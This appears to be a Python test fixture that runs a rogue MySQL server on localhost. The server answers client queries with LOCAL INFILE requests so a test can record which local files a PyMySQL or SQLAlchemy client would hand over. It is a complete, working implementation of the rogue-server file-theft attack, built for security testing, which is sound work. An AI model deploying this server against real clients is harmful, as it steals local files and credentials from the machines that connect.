"""A rogue MySQL server on 127.0.0.1 that asks its clients for a local file.

It speaks just enough of the protocol for PyMySQL and SQLAlchemy to connect (handshake, OK packets,
small text result sets), then answers the statements it is told to (by default every statement that
is not a session or transaction command) with a LOCAL INFILE request for `wanted`, the file a
hijacked server would steal. Whatever the client sends back is kept in `received`, one entry per
request, so a test can say exactly what left the machine. `connections` counts the clients that
connected at all.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from collections.abc import Callable

# LONG_PASSWORD, FOUND_ROWS, LONG_FLAG, CONNECT_WITH_DB, LOCAL_FILES, PROTOCOL_41, TRANSACTIONS,
# SECURE_CONNECTION, MULTI_STATEMENTS, MULTI_RESULTS, PLUGIN_AUTH
CAPABILITIES = 1 | 2 | 4 | 8 | 128 | 512 | 8192 | 32768 | (1 << 16) | (1 << 17) | (1 << 19)
_PLAIN = ("SET", "ROLLBACK", "COMMIT", "BEGIN", "START", "USE", "DO ")
_ANSWERED = ("SHOW", "SELECT @@", "SELECT VERSION()", "SELECT DATABASE()")  # what a driver asks on connecting


def _lenenc_str(data: bytes) -> bytes:
    assert len(data) < 251
    return bytes((len(data),)) + data


class RogueMySQL:
    def __init__(self, wanted: str, asks: Callable[[str], bool] | None = None):
        self.wanted = wanted
        self.asks = asks or (lambda sql: not sql.lstrip().upper().startswith(_PLAIN + _ANSWERED))
        self.received: list[bytes] = []
        self.queries: list[str] = []
        self.connections = 0
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(16)
        self._sock.settimeout(0.1)  # accept() wakes up to see a stop
        self.port = self._sock.getsockname()[1]
        self._stopped = threading.Event()
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self._accept, name="rogue-mysql", daemon=True)

    def url(self, db: str = "shop", **query: str) -> str:
        extra = "?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else ""
        return f"mysql+pymysql://thief:pw@127.0.0.1:{self.port}/{db}{extra}"

    def __enter__(self) -> "RogueMySQL":
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stopped.set()
        self._thread.join(5)
        with contextlib.suppress(OSError):
            self._sock.close()

    # ------------------------------------------------------------------------------------ serving
    def _accept(self) -> None:
        while not self._stopped.is_set():
            try:
                client, _ = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with self._lock:
                self.connections += 1
                conn_id = self.connections
            threading.Thread(target=self._serve, args=(client, conn_id), daemon=True).start()

    def _serve(self, client: socket.socket, conn_id: int) -> None:
        client.settimeout(30)
        try:
            self._send(client, 0, self._handshake(conn_id))
            self._read(client)  # the client's handshake response: any password will do
            self._send(client, 2, self._ok())
            while not self._stopped.is_set():
                seq, packet = self._read(client)
                command, body = packet[:1], packet[1:]
                if command == b"\x01":  # COM_QUIT
                    return
                if command != b"\x03":  # COM_PING, COM_INIT_DB, ...: fine
                    self._send(client, seq + 1, self._ok())
                    continue
                sql = body.decode("utf-8", "replace")
                with self._lock:
                    self.queries.append(sql)
                self._answer(client, seq + 1, sql)
        except (OSError, ConnectionError, struct.error):
            return
        finally:
            with contextlib.suppress(OSError):
                client.close()

    def _answer(self, client: socket.socket, seq: int, sql: str) -> None:
        if self.asks(sql):
            self._send(client, seq, b"\xfb" + self.wanted.encode())
            data = b""
            while True:  # the file, in packets, up to an empty one
                seq, chunk = self._read(client)
                if not chunk:
                    break
                data += chunk
            with self._lock:
                self.received.append(data)
            self._send(client, seq + 1, self._ok())
        elif sql.lstrip().upper().startswith(_ANSWERED):
            lowered = sql.lower()
            value = (b"REPEATABLE-READ" if "isolation" in lowered else b"10.11.0-MariaDB" if "version" in lowered
                     else b"shop" if "database" in lowered else b"28800")
            columns = [b"Variable_name", b"Value"] if sql.lstrip().upper().startswith("SHOW") else [b"v"]
            rows = [] if len(columns) == 2 else [[value]]
            self._result(client, seq, columns, rows)
        else:
            self._send(client, seq, self._ok())

    # ------------------------------------------------------------------------------------ packets
    @staticmethod
    def _handshake(conn_id: int) -> bytes:
        return (b"\x0a" + b"5.5.5-10.11.0-MariaDB-rogue\x00" + struct.pack("<I", conn_id) + b"abcdefgh\x00"
                + struct.pack("<H", CAPABILITIES & 0xFFFF) + bytes((45,)) + struct.pack("<H", 2)
                + struct.pack("<H", CAPABILITIES >> 16) + bytes((21,)) + b"\x00" * 10 + b"ijklmnopqrst\x00"
                + b"mysql_native_password\x00")

    @staticmethod
    def _ok() -> bytes:
        return b"\x00\x00\x00" + struct.pack("<HH", 2, 0)

    @staticmethod
    def _eof() -> bytes:
        return b"\xfe" + struct.pack("<HH", 0, 2)

    def _result(self, client: socket.socket, seq: int, columns: list[bytes], rows: list[list[bytes]]) -> None:
        self._send(client, seq, bytes((len(columns),)))
        for name in columns:
            seq += 1
            self._send(client, seq, b"".join(_lenenc_str(x) for x in (b"def", b"", b"", b"", name, name))
                       + b"\x0c" + struct.pack("<HIBHB", 45, 255, 253, 0, 0) + b"\x00\x00")
        seq += 1
        self._send(client, seq, self._eof())
        for row in rows:
            seq += 1
            self._send(client, seq, b"".join(_lenenc_str(v) for v in row))
        self._send(client, seq + 1, self._eof())

    @staticmethod
    def _send(client: socket.socket, seq: int, payload: bytes) -> None:
        client.sendall(struct.pack("<I", len(payload))[:3] + bytes((seq % 256,)) + payload)

    @staticmethod
    def _read(client: socket.socket) -> tuple[int, bytes]:
        header = _exactly(client, 4)
        length = int.from_bytes(header[:3], "little")
        return header[3], _exactly(client, length)


def _exactly(client: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = client.recv(n - len(data))
        if not chunk:
            raise ConnectionError("client went away")
        data += chunk
    return data
